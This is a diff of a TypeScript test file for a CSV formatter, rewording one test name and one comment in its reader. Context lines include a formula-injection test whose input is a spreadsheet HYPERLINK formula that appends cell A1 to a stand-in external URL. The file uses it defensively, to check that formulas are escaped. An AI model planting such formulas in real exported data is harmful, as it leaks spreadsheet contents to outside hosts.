@@ -22,7 +22,7 @@ test('no field is a formula', () => {
 	assert.equal(formatCsv([['=HYPERLINK("http://a.example?"&A1)']]), `"'=HYPERLINK(""http://a.example?""&A1)"\r\n`)
 })
 
-test('whatever the fields are, a reader of the standard gets them back, formulas behind an apostrophe', () => {
+test('whatever the fields are, a reader of the standard gets them back, formulas after an apostrophe', () => {
 	const field = fc.string({ unit: fc.constantFrom('a', '"', ',', '\r', '\n', '=', ' ', '1', "'") })
 	fc.assert(
 		fc.property(fc.array(fc.array(field, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), rows => {
@@ -43,7 +43,7 @@ function readCsv(text: string): string[][] {
 		row.push(inside === undefined ? taken : inside.replaceAll('""', '"'))
 		rest = rest.slice(taken.length)
 		if (rest.startsWith(',')) {
-			// One more field, also at the end of the line.
+			// One more field, even at the end of the line.
 			rest = rest.slice(1)
 			continue
 		}
